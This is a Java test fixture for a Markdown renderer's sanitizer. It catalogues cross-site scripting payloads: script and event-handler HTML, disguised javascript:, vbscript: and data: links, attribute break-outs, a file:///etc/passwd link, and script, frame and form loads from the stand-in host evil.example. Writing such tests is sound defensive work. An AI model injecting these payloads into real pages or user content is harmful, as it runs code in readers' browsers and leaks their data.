package org.palabre.markdown.control;

import java.util.List;

/**
 * Markdown written to run script or to make a reader's browser fetch something from another site. Each
 * payload, were it to work, would set {@code window.__pwned}, load from evil.example, or leave a link whose
 * scheme runs code. Shared by the renderer's unit tests and the browser tests, so both judge the same list.
 */
public final class HostileMarkdown {

    public record Payload(String name, String markdown) {
        @Override
        public String toString() {
            return name;
        }
    }

    public static final String MARKER = "__pwned";
    public static final String FOREIGN_HOST = "evil.example";

    private static final String RUN = "window.__pwned=1";

    private HostileMarkdown() {}

    public static List<Payload> catalogue() {
        return List.of(
                // Raw HTML: escaped, whatever the element.
                p("script element", "<script>" + RUN + "</script>"),
                p("script from elsewhere", "<script src=\"https://evil.example/x.js\"></script>"),
                p("closing the paragraph first", "</p><script>" + RUN + "</script><p>"),
                p("img onerror", "<img src=x onerror=\"" + RUN + "\">"),
                p("img from elsewhere", "<img src=\"https://evil.example/pixel.png\">"),
                p("svg onload", "<svg onload=\"" + RUN + "\"><circle r=\"10\"></circle></svg>"),
                p("script inside svg", "<svg><script>" + RUN + "</script></svg>"),
                p(
                        "mathml namespace confusion",
                        "<math><mtext><table><mglyph><style><img src=x onerror=\"" + RUN + "\">"),
                p("iframe", "<iframe src=\"https://evil.example/\"></iframe>"),
                p("iframe srcdoc", "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>"),
                p("object", "<object data=\"https://evil.example/x.swf\"></object>"),
                p("embed", "<embed src=\"https://evil.example/x.swf\">"),
                p(
                        "style element",
                        "<style>@import url(https://evil.example/x.css); body { background: url(//evil.example/bg.png) }</style>"),
                p("stylesheet link", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">"),
                p("base element", "<base href=\"https://evil.example/\">"),
                p("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"),
                p("form", "<form action=\"https://evil.example/\"><input name=\"q\"><button>ok</button></form>"),
                p("raw html javascript link", "<a href=\"javascript:" + RUN + "\">raw link</a>"),
                p("raw html link with markdown inside", "<a href=\"javascript:" + RUN + "\">*emphasis* inside</a>"),
                p(
                        "div with event and style, unclosed",
                        "<div onclick=\"" + RUN + "\" style=\"background:url(https://evil.example/bg.png)\">unclosed"),
                p("unclosed tag", "<div"),
                p("unclosed link tag", "<a href=\"javascript:" + RUN + "\""),
                p("unclosed img tag", "<img src=\"https://evil.example/u.png\" onerror=\"" + RUN + "\""),
                p("html comment hiding script", "<!-- <script>" + RUN + "</script> -->"),
                p("abruptly closed comment", "<!--><img src=x onerror=\"" + RUN + "\">-->"),
                p("comment then script", "<!-- x --><script>" + RUN + "</script>"),
                p("unclosed comment", "<!-- never closed <img src=x onerror=\"" + RUN + "\">"),
                p("noscript title breakout", "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\">"),
                p("details ontoggle", "<details open ontoggle=\"" + RUN + "\"><summary>x</summary></details>"),
                p("video source onerror", "<video><source onerror=\"" + RUN + "\"></video>"),
                p("body onload", "<body onload=\"" + RUN + "\">"),
                p("autofocus onfocus", "<input autofocus onfocus=\"" + RUN + "\">"),
                p("table background", "<table><tr><td background=\"https://evil.example/bg.png\">x</td></tr></table>"),
                p(
                        "style attribute overlay",
                        "<a href=\"https://ok.example/\" style=\"position:fixed;inset:0\">cover the page</a>"),
                p("xmp", "<xmp><script>" + RUN + "</script></xmp>"),
                p("cdata", "<![CDATA[<script>" + RUN + "</script>]]>"),
                p("markdown inside raw html", "<div>\n\n**bold** [inside](javascript:" + RUN + ")\n\n</div>"),
                p("markdown between script tags", "<script>\n\n*" + RUN + "*\n\n</script>"),
                p("emphasis around tags", "*<script>*" + RUN + "*</script>*"),
                p("escaped html stays text", "&lt;script&gt;" + RUN + "&lt;/script&gt;"),

                // Inline links with a scheme that runs code, however it is disguised.
                p("javascript link", "[plain](javascript:" + RUN + ")"),
                p("mixed case scheme", "[case](JaVaScRiPt:" + RUN + ")"),
                p("decimal entity", "[decimal](&#106;avascript:" + RUN + ")"),
                p("hex entity", "[hex](&#x6A;avascript:" + RUN + ")"),
                p("zero-padded entity", "[padded](&#0000106;avascript:" + RUN + ")"),
                p("entity in the middle", "[middle](ja&#x76;ascript:" + RUN + ")"),
                p("named colon entity", "[colon](javascript&colon;" + RUN + ")"),
                p("numeric colon entity", "[colon](javascript&#58;" + RUN + ")"),
                p("escaped colon", "[colon](javascript\\:" + RUN + ")"),
                p("tab inside scheme", "[tab](java\tscript:" + RUN + ")"),
                p("tab entity inside scheme", "[tab](jav&#x09;ascript:" + RUN + ")"),
                p("newline entity inside scheme", "[newline](jav&#x0A;ascript:" + RUN + ")"),
                p("leading spaces", "[spaces](   javascript:" + RUN + ")"),
                p("leading tab and spaces", "[spaces](  \t javascript:" + RUN + ")"),
                p("leading no-break space entity", "[nbsp](&#160;javascript:" + RUN + ")"),
                p("leading control entity", "[control](&#1;javascript:" + RUN + ")"),
                p("leading nul entity", "[nul](&#0;javascript:" + RUN + ")"),
                p("angle bracket destination", "[angle](<javascript:" + RUN + ">)"),
                p("angle bracket destination with tab", "[angle](<java\tscript:" + RUN + ">)"),
                p("vbscript", "[vb](vbscript:msgbox(1))"),
                p("data html", "[data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)"),
                p("data svg", "[data](<data:image/svg+xml,<svg onload=" + RUN + ">>)"),
                p("file", "[file](file:///etc/passwd)"),
                p("percent-encoded colon", "[percent](javascript%3A" + RUN + ")"),

                // Links elsewhere that must be marked as such, however the address is written.
                p("protocol-relative link", "[elsewhere](//evil.example/a)"),
                p("backslash after slash", "[elsewhere](/\\evil.example/a)"),
                p("two backslashes", "[elsewhere](\\\\\\\\evil.example/a)"),
                p("backslash entities", "[elsewhere](&#92;&#92;evil.example/a)"),
                p("upper-case https", "[elsewhere](HTTPS://evil.example/a)"),

                // Attribute break-outs through titles and addresses.
                p("double-quoted title breakout", "[t](https://ok.example/ \"a\\\" onmouseover=\\\"" + RUN + "\")"),
                p("single-quoted title breakout", "[t](https://ok.example/ 'a\" onmouseover=\"" + RUN + "')"),
                p("title closing the tag", "[t](https://ok.example/ \"\\\"><script>" + RUN + "</script>\")"),
                p("quote in an angle destination", "[q](<https://ok.example/\"onmouseover=\"" + RUN + ">)"),
                p("quote in a fragment", "[q](#\"onmouseover=\"" + RUN + ")"),

                // Reference links.
                p("reference to javascript", "[ref][r1]\n\n[r1]: javascript:" + RUN),
                p(
                        "collapsed reference with title breakout",
                        "[r2][]\n\n[r2]: <JAVASCRIPT:" + RUN + "> \"t\\\" onmouseover=\\\"" + RUN + "\""),
                p("shortcut reference with entity", "[r3]\n\n[r3]: &#x6A;avascript:" + RUN),
                p("reference to data", "[ref][r4]\n\n[r4]: data:text/html,<script>" + RUN + "</script>"),
                p("reference image elsewhere", "![ref image][r5]\n\n[r5]: https://evil.example/ref.png"),

                // Autolinks.
                p("javascript autolink", "<javascript:" + RUN + ">"),
                p("upper-case javascript autolink", "<JAVASCRIPT:" + RUN + ">"),
                p("vbscript autolink", "<vbscript:msgbox(1)>"),
                p("data autolink", "<data:text/html,x>"),
                p("autolink with quotes", "<http://evil.example/a\"onmouseover=\"" + RUN + ">"),
                p("bare javascript text", "javascript:" + RUN),
                p("bare link then quotes", "https://evil.example/a\"onmouseover=\"" + RUN),
                p("bare www link then quotes", "www.evil.example/\"onmouseover=\"" + RUN),
                p("bare link then script", "https://evil.example/<script>" + RUN + "</script>"),

                // Images: never loaded, only linked, and never from a scheme that runs code.
                p("image elsewhere", "![poster](https://evil.example/a.png)"),
                p("protocol-relative image", "![poster](//evil.example/b.png)"),
                p("image without alt", "![](https://evil.example/empty-alt.png)"),
                p("javascript image", "![x](javascript:" + RUN + ")"),
                p("data svg image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX3B3bmVkPTEiLz4=)"),
                p("alt text breakout", "![\"><script>" + RUN + "</script>](https://evil.example/c.png)"),
                p("alt text event", "![a\" onerror=\"" + RUN + "](https://evil.example/d.png)"),
                p("image title breakout", "![x](https://evil.example/e.png \"t\\\"><script>" + RUN + "</script>\")"),
                p("image inside a javascript link", "[![x](https://evil.example/f.png)](javascript:" + RUN + ")"),

                // Code, tables and task lists carry their own attributes and content.
                p("fence info breakout", "```\"><script>" + RUN + "</script>\ncode\n```"),
                p("fence info event", "```java onload=" + RUN + "\ncode\n```"),
                p("fence info quote", "```java\"onmouseover=\"" + RUN + "\ncode\n```"),
                p("inline code", "`<script>" + RUN + "</script>`"),
                p(
                        "table cells",
                        "| <script>" + RUN + "</script> | [x](javascript:" + RUN
                                + ") |\n|---|---|\n| <img src=x onerror=\"" + RUN + "\"> | b |"),
                p(
                        "task list item",
                        "- [x] <img src=x onerror=\"" + RUN + "\">\n- [ ] <input onfocus=\"" + RUN + "\" autofocus>"));
    }

    private static Payload p(String name, String markdown) {
        return new Payload(name, markdown);
    }
}
